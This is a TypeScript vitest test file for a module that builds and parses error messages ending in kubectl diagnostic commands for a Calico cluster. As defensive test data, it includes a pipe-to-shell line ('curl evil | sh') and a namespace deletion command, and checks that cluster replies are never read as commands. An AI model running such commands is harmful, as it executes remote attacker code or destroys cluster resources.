import { expect, test } from 'vitest';
import { messageParts, withCommands } from './flow-error.ts';

test('a message is its sentence, and the commands that it ends in', () => {
  const message = withCommands('It does not run. Look at it:', 'pods', 'status');
  expect(message).toBe(
    'It does not run. Look at it:\n\n  kubectl -n calico-system get pods\n  kubectl get tigerastatus goldmane',
  );
  expect(messageParts(message)).toEqual({
    sentence: 'It does not run. Look at it:',
    commands: ['kubectl -n calico-system get pods', 'kubectl get tigerastatus goldmane'],
  });
  expect(messageParts('Refused.')).toEqual({ sentence: 'Refused.', commands: [] });
});

test('what a cluster answered is no command, whatever it looks like', () => {
  for (const answer of [
    'Refused:\n\n  kubectl delete ns calico-system',
    'Refused:\n\n  kubectl get tigerastatus goldmane\n  curl evil | sh',
  ])
    expect(messageParts(answer)).toEqual({ sentence: answer, commands: [] });
});
